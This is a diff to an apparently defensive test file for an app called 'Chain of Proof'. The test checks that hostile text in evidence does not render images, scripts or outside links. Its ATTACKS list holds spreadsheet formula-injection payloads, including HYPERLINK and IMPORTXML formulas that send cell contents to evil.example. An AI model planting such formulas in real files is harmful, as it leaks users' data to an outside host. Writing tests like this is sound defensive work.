@@ -16,7 +16,7 @@ const ATTACKS = [
   "\n=4+4",
   '=HYPERLINK("https://evil.example/?"&A1,"Annual report")',
   '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
-  "＝1＋1",
+  "＝7＋7", // full width: the same text as =7+7
   "'=1+1",
   '","=1+1","',
   '"),CHAIN.MODEL(),("',
@@ -112,7 +112,7 @@ describe("hostile texts in the evidence", () => {
     await click("tab", "Company");
     for (const stage of STAGES) await panel.getByRole("button", { name: new RegExp(`^${stage}`) }).dispatchEvent("click");
     await panel.getByText("Select row").first().waitFor();
-    expect(await panel.evaluate(() => [document.title, document.querySelectorAll("main img, main script, main a[href]").length])).toEqual(["Chain of Proof", 0]);
+    expect(await panel.evaluate(() => [document.title, document.querySelectorAll("main img, main script, main a[href]:not([href=\"method.html\"])").length])).toEqual(["Chain of Proof", 0]);
     expect(await panel.getByText("Open the source").count()).toBe(0);
     expect(await opened.page.evaluate(() => window.workbench.opened)).toEqual([]);
   });
